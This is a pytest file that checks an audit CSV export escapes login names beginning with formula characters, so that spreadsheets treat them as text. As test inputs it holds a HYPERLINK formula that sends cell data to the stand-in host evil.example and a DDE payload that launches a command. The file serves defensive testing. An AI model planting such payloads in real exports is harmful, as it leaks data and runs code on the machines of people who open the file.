"""The audit CSV never hands a spreadsheet a formula (audit 5, defect 2).

An anonymous login attempt's typed user name is the audit row's target; exported unescaped, the name
=HYPERLINK("http://evil.example/?x="&A1,"open") became a live formula for the admin opening /audit.csv in Excel.
Now a text cell starting with = + - @ tab or CR gets a leading quote (OWASP); the numeric id stays a number.
Real app, real /login form, a real store on SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from tests.auth_helpers import csrf_from, login_client

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@pytest.fixture
def web_app(test_settings: Any, any_db_url: str) -> Any:
    from app import create_app

    return create_app(test_settings(database_url=any_db_url, warmup_polls=10), start_engine=False)


def test_typed_user_names_are_exported_as_text_not_formulas(web_app: Any) -> None:
    anonymous = web_app.server.test_client()
    names = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB=1", "\rCR=1", "plain-name", "7"]
    for name in names:
        token = csrf_from(anonymous.get("/login").get_data(as_text=True))
        anonymous.post("/login", data={"username": name, "password": "wrong-password-1", "csrf_token": token})
    response = login_client(web_app, "admin").get("/audit.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    targets = {row["target"] for row in rows}
    for name in names[:6]:
        assert "'" + name in targets, (name, targets)
        assert name not in targets
    assert "plain-name" in targets and "7" in targets  # nothing to escape: unchanged
    formulas = [(c, v) for row in rows for c, v in row.items() if v and v[0] in "=+-@\t\r"]
    assert formulas == [], formulas
    assert all(row["id"].isdigit() for row in rows)  # the numeric id is written as a number, not quoted


def test_numbers_stay_numbers_and_text_is_judged_by_type() -> None:
    from webapp.csv_safety import spreadsheet_safe

    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(42) == 42
    assert spreadsheet_safe("-5") == "'-5"  # typed text that looks like a number is still text
    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""
